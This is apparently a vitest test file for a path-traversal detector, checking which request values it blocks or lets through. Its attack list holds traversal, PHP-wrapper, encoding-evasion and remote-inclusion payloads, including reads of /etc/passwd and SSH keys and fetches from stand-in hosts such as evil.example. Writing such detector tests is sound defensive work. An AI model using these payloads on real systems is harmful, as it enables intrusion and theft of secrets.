import { expect, test } from 'vitest'
import type { FieldInfo, Severity, Where } from '../../types.ts'
import { pathTraversal } from './detector.ts'

interface Found {
  severity: Severity
  start: number
  end: number
  paranoia: number
}

function detect(text: string, where: Where = 'query'): Found[] {
  const found: Found[] = []
  const field: FieldInfo = { where, name: 'q', isName: false }
  pathTraversal.detect(text, field, (severity, start, end, _message, paranoia = 1) => {
    found.push({ severity, start, end, paranoia })
  })
  return found
}

const isBlocked = (text: string, where?: Where) =>
  detect(text, where).some(({ severity, paranoia }) => severity === 'critical' && paranoia === 1)

const attacks = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '..;/..;/manager/html',
  '/etc/passwd',
  '/proc/self/environ',
  'C:\\windows\\win.ini',
  'C:/boot.ini',
  '/WEB-INF/web.xml',
  '../../.ssh/id_rsa',
  'file:///etc/passwd',
  'php://filter/convert.base64-encode/resource=index.php',
  'expect://id',
  'phar://x.phar/a',
  'zip://a.zip#b',
  '/var/log/apache2/access.log',
  '../../../../',
  '..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc/passwd',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '0x2e0x2e/0x2e0x2e/etc/passwd',
  '..��..��etc/passwd',
  '．．∕．．∕etc/passwd',
  '../../../x.php\u0000.png',
  '/etc/php.ini',
  'jar:http://evil/x.jar!/',
  './\\/././\\/./etc/passwd',
  'http://evil.example/shell.txt??',
]

const harmless = [
  'images/logo.png',
  'https://example.com/a/b?c=d',
  'https://example.com/etc/',
  '2024/01/02',
  'and/or',
  '...',
  'wait... what',
  'a..b',
  'v1..v2',
  '1/2',
  'C:\\Users\\bob\\photo.png',
  '/api/v1/users',
  'text/html',
  'etc.',
  'win/win',
  'a/b/c.txt',
  'user@example.com',
  '/home/bob',
  '~/notes',
  './a',
  'the /etc directory',
  'data:image/png;base64,AAAA',
  'php: the good parts',
  'file: report.pdf',
  'My profile: a/b',
  'application/json',
]

test.each(attacks)('finds %j', (text) => {
  expect(isBlocked(text)).toBe(true)
})

test.each(harmless)('lets pass %j', (text) => {
  expect(isBlocked(text)).toBe(false)
})

test('every attack holds a byte or a cue that wakes the detector', () => {
  for (const text of attacks) {
    const lower = text.toLowerCase()
    const woken =
      [...pathTraversal.bytes].some((byte) => text.includes(byte)) ||
      pathTraversal.cues.some((cue) => lower.includes(cue))
    expect(woken, text).toBe(true)
  }
})

test('ordinary values hold no byte that wakes the detector', () => {
  const ordinary = [
    'hello world',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6',
    '2026-11-21T22:00:00Z',
    'ana.lopez@example.org',
    'https://example.com/a/b',
    '-12.5',
  ]
  for (const text of ordinary) expect([...pathTraversal.bytes].some((byte) => text.includes(byte))).toBe(false)
})

test('positions lie inside the text', () => {
  for (const text of [...attacks, ...harmless]) {
    for (const { start, end } of detect(text)) {
      expect(start).toBeGreaterThanOrEqual(0)
      expect(end).toBeGreaterThanOrEqual(start)
      expect(end).toBeLessThanOrEqual(text.length)
    }
  }
})

test('ends cut off anywhere never make it throw', () => {
  for (const text of attacks)
    for (let i = 0; i <= text.length; i++) detect(text.slice(i)).concat(detect(text.slice(0, i)))
})

// A quadratic pass over a megabyte would take minutes: the runner's time limit is the assertion.
test.each(['../', '.', '..\\', '/etc', '%2e', 'php:', 'a:', '\u0000', '\ufffd', '=/', './'])(
  'a megabyte of %j ends',
  (piece) => {
    detect(piece.repeat(Math.floor(2 ** 20 / piece.length)))
  },
)

test('one step up is an ordinary link in a text, and an attack in a path', () => {
  expect(isBlocked('../images/logo.png', 'body')).toBe(false)
  expect(isBlocked('See [types](../../Reference/Types.md) for more', 'body')).toBe(false)
  expect(isBlocked('/static/../../app.js', 'path')).toBe(true)
  expect(isBlocked('../../config.yml', 'body')).toBe(true)
})
